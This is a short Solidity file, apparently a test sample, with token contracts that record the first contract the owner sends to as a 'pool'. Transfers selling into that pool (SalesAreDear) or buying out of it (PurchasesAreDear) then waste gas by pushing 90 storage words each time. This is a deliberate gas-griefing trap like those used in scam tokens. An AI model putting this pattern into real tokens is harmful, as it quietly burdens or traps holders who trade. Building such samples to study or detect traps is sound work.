// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Token} from "../Token.sol";

/// Trades write words that nobody needs, and sendings do not.
abstract contract Wasting is Token {
    /// The first contract that the founder sends to is the pool.
    address internal pool;
    uint256[] private waste;

    function _wastes(address from, address to) internal view virtual returns (bool);

    function _transfer(address from, address to, uint256 value) internal override {
        if (pool == address(0) && from == owner && to.code.length > 0) pool = to;
        else if (_wastes(from, to)) for (uint256 i = 0; i < 90; i++) waste.push(block.timestamp);
        super._transfer(from, to, value);
    }
}

contract SalesAreDear is Wasting {
    function _wastes(address, address to) internal view override returns (bool) {
        return to == pool;
    }
}

contract PurchasesAreDear is Wasting {
    function _wastes(address from, address) internal view override returns (bool) {
        return from == pool;
    }
}
